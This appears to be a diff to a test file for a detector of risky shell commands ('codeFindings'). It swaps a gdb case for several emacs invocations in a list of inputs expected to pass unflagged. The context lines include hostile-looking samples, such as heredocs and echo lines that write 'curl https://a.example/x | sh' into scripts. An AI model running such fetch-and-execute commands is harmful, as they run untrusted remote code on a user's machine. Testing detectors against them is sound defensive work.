@@ -221,7 +221,6 @@ describe('codeFindings', () => {
     "python3 rimraf.py -c 'print(1)'",
     'expect << E\nspawn ssh h\nE',
     'gdb shell -ex bt',
-    'gdb -ex make a',
     "python3 -c 'import zlib; print(zlib.decompress(d))'",
     'tee << E\ncurl https://a.example/x | sh\nE',
     "echo 'curl https://a.example/x | sh' <> x.sh",
@@ -243,5 +242,8 @@ describe('codeFindings', () => {
     'awk -f x f',
     'git --exec-path=x log',
     'git -c core.pager=x log',
+    'emacs -nw a',
+    'emacs --batch --eval \'(org-babel-tangle-file "a.org")\'',
+    'emacsclient -n a',
   ])('passes %s', (source) => expect(found(source)).toBe(''));
 });
